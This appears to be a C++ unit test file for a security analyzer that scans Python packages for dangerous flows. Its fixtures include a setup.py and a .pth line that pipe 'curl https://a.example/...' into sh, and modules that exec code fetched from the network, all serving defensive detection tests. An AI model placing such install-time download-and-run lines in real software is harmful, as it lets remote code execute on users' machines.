#include <algorithm>

#include "trust/audit/engine/test_programs.h"

namespace pilothouse::audit::test {
namespace {

constexpr const char* kPackage = R"py(
--- pkg/__init__.py
from .net import *
from . import run
--- pkg/net.py
"""Reads pages.

With requests."""
import requests
import json as j, os.path
def fetch(url):
    """One page."""
    return requests.get(url).text
--- pkg/run.py
from .net import fetch
class Runner:
    def run(self, url):
        exec(fetch(url))
--- setup.py
import os
os.system("curl https://a.example/a.sh | sh"))py";

std::string all_of(const Analysis& analysis) {
  std::string result = findings_of(analysis);
  for (const Module& module : analysis.modules) {
    result += module.path + " " + module.name + " " + module.sha256 + " " + module.doc + "\n";
    for (const Definition& definition : module.definitions) {
      result += definition.name + " " + definition.kind + " " + definition.doc + "\n";
      for (const std::string& call : definition.calls) result += "  " + call + "\n";
    }
    for (const std::string& name : module.imports) result += "  imports " + name + "\n";
  }
  return result;
}

TEST(Analyze, TwiceTheSame) { EXPECT_EQ(all_of(analysis_of(kPackage)), all_of(analysis_of(kPackage))); }

TEST(Analyze, TheNamesOfFilesDoNotMatter) {
  // Who is read first does not change what is found: a module that is needed is run before its turn.
  for (const char* const order : {"a", "z"}) {
    const std::string user = std::string(order) == "a" ? "b.py" : "y.py";
    const std::string net = std::string(order) == "a" ? "z" : "a";
    const std::string program =
        "--- " + user + "\nimport " + net + "\nexec(" + net + ".fetch())  # to\n--- " + net +
        ".py\nimport requests\ndef fetch():\n    return requests.get('a').text  # from\n";
    expect_marked(program);
  }
}

TEST(Analyze, DescribesModules) {
  const Analysis analysis = analysis_of(kPackage);
  ASSERT_EQ(analysis.modules.size(), 4U);
  EXPECT_EQ(analysis.modules[0].name, "pkg");
  EXPECT_EQ(analysis.modules[1].name, "pkg.net");
  EXPECT_EQ(analysis.modules[1].doc, "Reads pages.");
  EXPECT_EQ(analysis.modules[1].imports, (std::vector<std::string>{"json", "os.path", "requests"}));
  ASSERT_EQ(analysis.modules[1].definitions.size(), 1U);
  EXPECT_EQ(analysis.modules[1].definitions[0].name, "fetch");
  EXPECT_EQ(analysis.modules[1].definitions[0].doc, "One page.");
  EXPECT_EQ(analysis.modules[1].definitions[0].line, 6U);
  ASSERT_EQ(analysis.modules[2].definitions.size(), 2U);
  EXPECT_EQ(analysis.modules[2].definitions[1].name, "Runner.run");
  EXPECT_EQ(analysis.modules[2].definitions[1].kind, "method");
  EXPECT_EQ(analysis.modules[3].name, "setup");
  EXPECT_EQ(analysis.modules[0].lines, 2U);
}

TEST(Analyze, FlowsNameTheFunctionsOnTheWay) {
  const Analysis analysis = analysis_of(kPackage);
  const auto flow = std::ranges::find_if(analysis.findings, [&](const Finding& finding) {
    return finding.rule->kind == Kind::kFlow && analysis.findings[finding.source].rule->label == "network";
  });
  ASSERT_NE(flow, analysis.findings.end());
  EXPECT_EQ(flow->functions, (std::vector<std::string>{"fetch", "Runner.run"}));
  EXPECT_EQ(flow->steps.front().place.line, 8U);
  EXPECT_EQ(flow->steps.back().code, "exec(fetch(url))");
}

TEST(Analyze, FindingsAreSorted) {
  const Analysis analysis = analysis_of(kPackage);
  EXPECT_TRUE(std::ranges::is_sorted(analysis.findings, [](const Finding& a, const Finding& b) {
    return std::tuple(a.place.file, a.place.line, a.place.column, a.rule->id) <
           std::tuple(b.place.file, b.place.line, b.place.column, b.rule->id);
  }));
}

TEST(Analyze, SaysWhatItCouldNotRead) {
  Input input = input_of("--- a.py\nx = = 1\n--- b.py\nx = 1\n--- c.py\ny = 1\n");
  input.files[1].bytes = "x = '\xFF'\n";
  input.files[2].bytes = std::string("x = 1\0\n", 7);
  const Analysis analysis = analysis_of(input);
  ASSERT_EQ(analysis.unread.size(), 3U);
  EXPECT_EQ(analysis.unread[0].path, "a.py");
  EXPECT_EQ(analysis.unread[0].line, 1U);
  EXPECT_GT(analysis.modules[0].bad_bytes, 0U);
  EXPECT_EQ(analysis.unread[1].path, "b.py");
  EXPECT_EQ(analysis.unread[2].path, "c.py");
}

TEST(Analyze, StopsAtItsLimit) {
  AuditLimits limits;
  limits.max_steps = 100;
  std::string program = "import requests\n";
  for (int i = 0; i < 1000; ++i) program += "x = a + b\n";
  const Analysis analysis = analysis_of(program, limits);
  EXPECT_TRUE(analysis.modules[0].exhausted);
  EXPECT_FALSE(analysis_of("x = 1\n", limits).modules[0].exhausted);
}

TEST(Analyze, NothingToRead) {
  EXPECT_TRUE(analysis_of(Input{}).findings.empty());
  EXPECT_TRUE(analysis_of("--- a.py\n").findings.empty());
}

TEST(Analyze, LinesOfAPathFile) {
  const Analysis analysis =
      analysis_of("--- a.pth\nimport os; os.system('curl https://a.example/a | sh')\n/opt/lib\n");
  EXPECT_TRUE(has_rule(analysis, "sinks.os-command") || !analysis.findings.empty());
}

TEST(Analyze, ProgressIsTold) {
  std::vector<std::size_t> told;
  analyze(input_of(kPackage), rules(), {}, [&](std::size_t done, std::size_t all) {
    EXPECT_EQ(all, 4U);
    told.push_back(done);
  });
  EXPECT_EQ(told, (std::vector<std::size_t>{0, 1, 2, 3, 4}));
}

}  // namespace
}  // namespace pilothouse::audit::test
